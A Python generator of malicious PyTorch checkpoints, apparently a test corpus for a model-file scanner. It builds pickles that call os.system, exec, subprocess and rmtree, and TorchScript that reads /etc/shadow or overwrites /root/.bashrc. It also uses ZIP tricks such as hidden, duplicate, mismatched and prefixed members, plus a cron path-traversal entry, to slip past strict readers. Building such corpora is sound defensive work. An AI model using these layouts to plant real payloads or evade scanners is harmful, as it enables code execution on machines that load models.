"""PyTorch's containers: ZIP, the stacked pickles of old, the tar of older, and archives that lie."""

import gzip
import io
import struct
import tarfile

from .pickles import Build, Call, G, Items, Persist, Raw, body, pickle, system, text
from .store import rng
from .zips import Member, archive, torch

MAGIC, VERSION = 0x1950A86A20F9469CFC6C, 1001


def tensor(key="0", root=("torch", "FloatStorage"), shape=(2, 4)):
    """A tensor as torch refers to it."""
    storage = Persist(("storage", G(*root), key, "cpu", shape[0] * shape[1]))
    return Call(G("torch._utils", "_rebuild_tensor_v2"), storage, 0, shape, (shape[1], 1), False, Call(G("collections", "OrderedDict")))


def state(*more):
    """The state of a small model; what is in `more` comes along."""
    pairs = [("fc.weight", tensor()), ("fc.bias", tensor("0", shape=(1, 4)))]
    return Items(Call(G("collections", "OrderedDict")), pairs + list(more))


GOOD = pickle(state(), 2)


def members(corpus):
    def add(kind, name, data, why):
        corpus.add(kind, "torch zip", name, data, why)

    bad = system("true", 2)
    for number, (gadget, argument) in enumerate([(("os", "system"), "true"), (("builtins", "exec"), "import os"), (("webbrowser", "open"), "http://corpus.example"), (("subprocess", "run"), ["true"]), (("torch.hub", "load"), "corpus/evil"), (("shutil", "rmtree"), "/tmp/.c")]):
        data = pickle(state(("fc.hook", Call(G(*gadget), argument))), 2)
        add("torch-zip", ["pytorch_model.bin", "m.pt", "best.pth", "last.ckpt", "unet.bin", "ema.pt2x"][number], torch(data, root=["archive", "m", "best", "last", "unet", "ema"][number]), "the state of the model calls")
    rebuilt = Call(G("torch._utils", "_rebuild_from_type_v2"), G("os", "system"), G("torch", "Tensor"), ("true",), {})
    add("torch-zip", "subclass.pt", torch(pickle(state(("x", rebuilt)), 2)), "_rebuild_from_type_v2 calls its first argument")
    add("torch-zip", "wrapper.pt", torch(pickle(state(("x", Call(G("torch._tensor", "_rebuild_from_type"), G("builtins", "exec"), G("torch", "Tensor"), "pass", {}))), 2)), "_rebuild_from_type calls its first argument")
    ways = [
        (Member("archive/code.bin", bad), "a pickle without its suffix"), (Member("archive/extra", system("id", 0)), "a pickle of protocol 0 without its suffix"), (Member("archive/inner.zip", archive([Member("x/data.pkl", bad)])), "a ZIP in the ZIP"), (Member("archive/c.gz", gzip.compress(bad, mtime=0)), "a gzip in the ZIP"),
        (Member("archive/data/1", bad), "a pickle in the place of a tensor"), (Member("archive/constants.pkl", bad), "constants.pkl of TorchScript"), (Member("archive/data.pkl", bad), "a second data.pkl"), (Member("archive/.data/x.pickle", system("true", 5), deflate=True), "a deflated pickle in a hidden folder"), (Member("archive/data/" + "n" * 60 + ".json", b"\x80\x04" + b"N0" * 2000 + bad[2:]), "a pickle named as JSON"),
    ]
    for number, (member, why) in enumerate(ways):
        add("torch-other-member", f"om{number}.pt", torch(GOOD, member), why)
    stash = io.BytesIO()
    with tarfile.open(fileobj=stash, mode="w") as tar:
        info = tarfile.TarInfo("pickle")
        info.size = len(bad)
        tar.addfile(info, io.BytesIO(bad))
    add("torch-other-member", "om20.pt", torch(GOOD, Member("archive/old.tar", stash.getvalue())), "a tar in the ZIP")


def lies(corpus):
    def add(kind, name, data, why):
        corpus.add(kind, "torch zip", name, data, why)

    bad, worse = system("true", 2), pickle(state(("x", Call(G("posix", "system"), "true"))), 2)
    for number, crc in enumerate([0, 0xDEADBEEF, 1]):
        add("zip-crc", f"crc{number}.pt", archive([Member("archive/data.pkl", bad if number else worse, crc=crc, deflate=number == 2), Member("archive/version", b"3\n")]), "a wrong check sum stops strict readers, not PyTorch")
    for number, (flags, central) in enumerate([(0x1, None), (0x20, None), (0x40, None), (0x2000, None), (0x1, 0), (0, 0x1), (0x41, None), (0x800 | 0x1, 0x800)]):
        add("zip-flags", f"flag{number}.pth", archive([Member("archive/data.pkl", [bad, worse][number % 2], flags=flags, central_flags=central), Member("archive/version", b"3\n")]), f"flags {flags:#x} stop strict readers, not PyTorch")
    for number, (local, central) in enumerate([("archive/data.txt", "archive/data.pkl"), ("archive/data.pkl\0.txt", "archive/data.pkl"), ("a/readme.md", "archive/data.pkl"), ("archive/DATA.PKL", "archive/data.pkl")]):
        add("zip-name-mismatch", f"name{number}.pt", archive([Member(local, [bad, worse][number % 2], central=central), Member("archive/version", b"3\n")]), "the two names of a member differ")
    for number, order in enumerate([(GOOD, bad), (bad, GOOD), (GOOD, GOOD, worse)]):
        add("zip-duplicate", f"dup{number}.pt", archive([Member("archive/data.pkl", each) for each in order] + [Member("archive/version", b"3\n")]), "two members of one name, one of which calls")
    add("zip-hidden", "hid0.pt", archive([Member("archive/data.pkl", GOOD), Member("archive/data.pkl", bad, hidden=True), Member("archive/version", b"3\n")]), "a member that is not in the directory")
    add("zip-hidden", "hid1.pt", archive([Member("archive/data.pkl", worse, hidden=True), Member("archive/readme", b"hello")]), "only a local header names it")
    add("zip-hidden", "hid2.bin", archive([Member("archive/data.pkl", GOOD)], prefix=Member("archive/data.pkl", bad, deflate=True).local()), "a member before the archive")
    one, two = archive([Member("archive/data.pkl", GOOD)]), archive([Member("archive/data.pkl", bad)])
    add("zip-concatenated", "cat0.pt", two + one, "the first of two archives calls")
    add("zip-concatenated", "cat1.pt", one + two, "the second of two archives calls")
    add("zip-concatenated", "cat2.pt", archive([Member("archive/data.pkl", GOOD)], comment=two), "an archive in the comment of another")
    add("zip-truncated", "trunc0.pt", archive([Member("archive/data.pkl", bad)], directory=False), "no directory")
    add("zip-truncated", "trunc1.pt", archive([Member("archive/data.pkl", worse, deflate=True), Member("archive/version", b"3\n")])[:-25], "the end of the directory is cut")
    add("zip-truncated", "trunc2.bin", archive([Member("archive/version", b"3"), Member("archive/data.pkl", bad)], directory=False)[:-1], "cut in the last member")
    add("zip-size", "size0.pt", archive([Member("archive/data.pkl", bad, size=0)]), "the directory says that it is empty")
    add("zip-size", "size1.pt", archive([Member("archive/data.pkl", worse, size=12)]), "the directory says that it is shorter")
    add("zip-size", "size2.pt", archive([Member("archive/data.pkl", bad, size=0x7FFFFFF0)]), "the directory says that it is longer than the file")
    add("zip-prefix", "pre0.pt", archive([Member("archive/data.pkl", bad)], prefix=b"\x89PNG\r\n\x1a\n" + bytes(90)), "an archive behind the head of a picture")
    add("zip-prefix", "pre1.gguf", archive([Member("archive/data.pkl", worse)], prefix=b"GGUF\x03\0\0\0" + bytes(16)), "an archive behind the head of a GGUF")
    add("zip-prefix", "pre2.pt", system("true", 4) + archive([Member("archive/data.pkl", GOOD)], shift=False), "a pickle before the archive: torch and pickle read different things")


def legacy(corpus):
    def add(kind, name, parts, why):
        corpus.add(kind, "torch legacy", name, b"".join(parts), why)

    system_info = {"protocol_version": VERSION, "little_endian": True, "type_sizes": {"short": 2, "int": 4, "long": 4}}
    big = b"\x8a\x0a" + MAGIC.to_bytes(10, "little")
    head = [b"\x80\x02" + big + b".", pickle(VERSION, 2, False), pickle(system_info, 2)]
    storage = struct.pack("<q", 8) + bytes(32)
    keys = pickle(["0"], 2)
    bad = Call(G("os", "system"), "true")
    magic = Call(G("builtins", "eval"), str(MAGIC))
    add("torch-legacy", "a.pth", head + [pickle(state(("x", bad)), 2), keys, storage], "the object calls")
    add("torch-legacy", "b.pt", head[:2] + [pickle(dict(system_info, x=Call(G("builtins", "exec"), "pass")), 2), GOOD, keys, storage], "the table of sizes calls")
    add("torch-legacy", "c.bin", head + [GOOD, pickle(["0", Call(G("os", "popen"), "true")], 2), storage], "the list of keys calls")
    add("torch-legacy-magic", "a.pth", [pickle(magic, 2)] + head[1:] + [GOOD, keys, storage], "the magic number is computed by eval")
    add("torch-legacy-magic", "b.pt", [pickle(Call(G("builtins", "int"), Call(G("subprocess", "getoutput"), f"echo {MAGIC}")), 2)] + head[1:] + [GOOD, keys, storage], "the magic number is what a command prints")
    add("torch-legacy-magic", "c.pt", [pickle(Call(G("operator", "add"), MAGIC - 1, Call(G("os", "system"), "exit 1")), 4)] + head[1:] + [GOOD, keys, storage], "a command's code is added to the magic number")
    add("torch-legacy-late", "a.pth", head + [GOOD, keys, storage, pickle(bad, 4)], "a pickle after the storages")
    add("torch-legacy-late", "b.pth", head + [GOOD, keys, struct.pack("<q", 900) + rng("late").randbytes(3600), system("id", 0)], "a pickle after 900 numbers")
    for number, part in enumerate(["pickle", "storages", "tensors", "sys_info", "attributes"]):
        stash = io.BytesIO()
        with tarfile.open(fileobj=stash, mode="w", format=[tarfile.USTAR_FORMAT, tarfile.GNU_FORMAT, tarfile.PAX_FORMAT][number % 3]) as tar:
            for name in ["sys_info", "pickle", "storages", "tensors"] + (["attributes"] if part == "attributes" else []):
                plain = {"sys_info": pickle(system_info, 2), "pickle": GOOD, "storages": pickle(1, 2) + pickle(("0", "cpu", G("torch", "FloatStorage")), 2) + storage, "tensors": pickle(0, 2), "attributes": b""}[name]
                data = pickle({"n": number, "x": Call(G("os", "system"), f"echo {part}")}, 2 + number % 3) if name == part else plain
                info = tarfile.TarInfo(name)
                info.size = len(data)
                tar.addfile(info, io.BytesIO(data))
        corpus.add("torch-tar", "torch tar", f"old{number}.{['pth', 't7', 'pt', 'tar', 'bin'][number]}", stash.getvalue(), f"the member {part} calls")
    script = [
        ("def forward(self, x: Tensor) -> Tensor:\n    ops.aten.save(x, \"/tmp/.corpus\")\n    return x\n", "aten::save writes a file"), ("def forward(self, x: Tensor) -> Tensor:\n    y = torch.from_file(\"/etc/shadow\", True, 64)\n    return y\n", "from_file reads and maps any file"),
        ("def forward(self, x: Tensor) -> Tensor:\n    _0 = torch.save(x, \"/root/.bashrc\")\n    return x\n", "save over a start-up file"), ("def forward(self, x: Tensor) -> Tensor:\n    return ops.corpus.run_shell(\"true\")\n", "an operator of a library that comes along"),
    ]
    for number, (source, why) in enumerate(script):
        code = "class M(Module):\n  __parameters__ = []\n  __buffers__ = []\n  " + source.replace("\n", "\n  ")
        data = pickle(Call(G("__torch__", "M")), 2)
        corpus.add("torchscript", "torchscript", f"ts{number}.pt", torch(data, Member("archive/code/__torch__.py", code.encode()), Member("archive/constants.pkl", b"\x80\x02).")), why, "suspicious" if "run_shell" in source else "malicious")


def package(corpus):
    """torch.package, pt2 and the mobile format: code that comes along and is imported or compiled."""
    entry = pickle(Call(G("corpus_model.net", "Net"), 3), 2)
    sources = ["import os\nos.system('true')\nclass Net:\n    pass\n", "import subprocess\nclass Net:\n    def __init__(self, n):\n        subprocess.Popen(['true'])\n", "class Net:\n    def __reduce__(self):\n        return (exec, ('pass',))\n__import__('os').popen('true')\n"]
    for number, source in enumerate(sources):
        files = [Member("p/.data/extern_modules", b"os\nsubprocess\n"), Member("p/.data/version", b"6\n"), Member("p/corpus_model/net.py", source.encode()), Member("p/model/model.pkl", entry), Member("p/corpus_model/__init__.py", b"")]
        corpus.add("torch-package", "torch.package", f"pkg{number}.pt", archive(files), "a module of the package runs commands when it is imported")
    corpus.add("torch-package", "torch.package", "pkg9.pt", archive([Member("q/.data/extern_modules", b"os\n"), Member("q/model/m.pkl", system("true", 3)), Member("q/.data/version", b"6\n")]), "a pickle of the package calls")
    shared = b"\x7fELF\x02\x01\x01" + bytes(9) + struct.pack("<HHI", 3, 62, 1) + bytes(400)
    corpus.add("pt2", "pt2", "m0.pt2", archive([Member("m/archive_format", b"pt2"), Member("m/data/aotinductor/model/x.wrapper.so", shared), Member("m/version", b"0")]), "a compiled library that loading the model loads")
    corpus.add("pt2", "pt2", "m1.pt2", archive([Member("m/archive_format", b"pt2"), Member("m/models/model.json", b"{}"), Member("m/data/weights/model_param_config.json", b"{}"), Member("m/data/sample_inputs/model.pt", torch(system("true", 2)))]), "the sample inputs call")
    corpus.add("pt2", "pt2", "m2.pt2", archive([Member("m/archive_format", b"pt2"), Member("m/data/constants/../../../../etc/cron.d/c", b"* * * * * root true\n")]), "a constant leaves the folder")
    corpus.add("mobile", "torch mobile", "m0.ptl", archive([Member("a/data.pkl", GOOD), Member("a/bytecode.pkl", pickle((8, Call(G("os", "system"), "true")), 2)), Member("a/version", b"8")]), "the bytecode's pickle calls")
    corpus.add("mobile", "torch mobile", "m1.ptl", archive([Member("a/data.pkl", GOOD), Member("a/mobile_debug_handles.pkl", system("id", 2)), Member("a/version", b"8")]), "the debug handles call")


def make(corpus):
    for part in [members, lies, legacy, package]:
        part(corpus)
